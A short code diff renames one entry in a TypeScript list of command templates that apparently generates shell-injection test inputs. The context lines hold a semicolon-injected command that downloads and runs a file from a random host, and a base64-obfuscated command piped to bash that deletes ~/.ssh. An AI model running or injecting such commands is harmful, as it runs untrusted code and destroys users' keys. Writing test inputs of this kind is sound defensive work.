@@ -20,7 +20,7 @@ export const COMMANDS: readonly Template[] = [
     (random) => `; wget -qO /tmp/u http://${strangeHost(random)}/u && chmod +x /tmp/u && /tmp/u`,
   ),
   after(
-    "command-base64",
+    "command-encoded",
     "the command runs something that is encoded",
     () => "; echo cm0gLXJmIH4vLnNzaA== | base64 -d | bash",
   ),
